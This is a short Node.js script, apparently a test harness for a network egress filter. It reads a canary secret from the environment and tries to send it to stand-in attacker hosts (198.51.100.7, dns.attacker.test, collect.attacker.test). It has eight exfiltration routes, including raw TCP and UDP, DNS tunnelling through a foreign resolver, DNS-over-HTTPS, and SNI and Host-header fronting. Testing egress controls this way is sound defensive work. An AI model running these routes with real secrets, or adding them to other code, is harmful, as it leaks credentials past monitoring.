// Sends a secret to an address of the attacker's without asking anybody for a name that is watched.
import { createSocket } from 'node:dgram';
import { lookup, Resolver } from 'node:dns/promises';
import { connect } from 'node:net';
import { connect as connectTls } from 'node:tls';

const secret = process.env.CANARY;
const said = (error) => console.log(error.code ?? error.message);
const psk = Buffer.from('00112233445566778899aabbccddeeff', 'hex');

function tcp(host, port, text) {
  connect(port, host, function () {
    this.end(text);
  }).on('error', said);
}
function udp(type, host, port) {
  const socket = createSocket(type);
  socket.on('error', said);
  socket.send(secret, port, host, (error) => {
    if (error) said(error);
    socket.close();
  });
}
function tls(host, servername, text) {
  const socket = connectTls({
    host,
    port: 443,
    servername,
    ciphers: 'PSK-AES128-GCM-SHA256',
    maxVersion: 'TLSv1.2',
    checkServerIdentity: () => undefined,
    pskCallback: () => ({ identity: 'replay', psk }),
  });
  socket.on('error', said);
  socket.on('secureConnect', () => socket.end(text));
  socket.resume();
}

const ways = {
  ipv4: () => tcp('198.51.100.7', 4444, secret),
  ipv6: () => tcp('2001:db8::7', 8443, secret),
  udp: () => udp('udp4', '198.51.100.7', 4444),
  'udp-ipv6': () => udp('udp6', '2001:db8::7', 123),
  'dns-over-https': () =>
    tls('198.51.100.8', 'dns.attacker.test', `GET /dns-query?name=${secret}.exfil.test HTTP/1.1\r\nHost: dns.attacker.test\r\n\r\n`),
  'foreign-name-server': async () => {
    const resolver = new Resolver({ timeout: 1000, tries: 1 });
    resolver.setServers(['198.51.100.53']);
    await resolver.resolve4(`${secret}.exfil.test`).catch(said);
  },
  'another-server-name': async () =>
    tls((await lookup('registry.test')).address, 'collect.attacker.test', `POST / HTTP/1.1\r\n\r\n${secret}`),
  'another-host-header': async () =>
    tcp((await lookup('registry.test')).address, 80, `GET /${secret} HTTP/1.1\r\nHost: collect.attacker.test\r\n\r\n`),
};
await ways[process.argv[2]]();
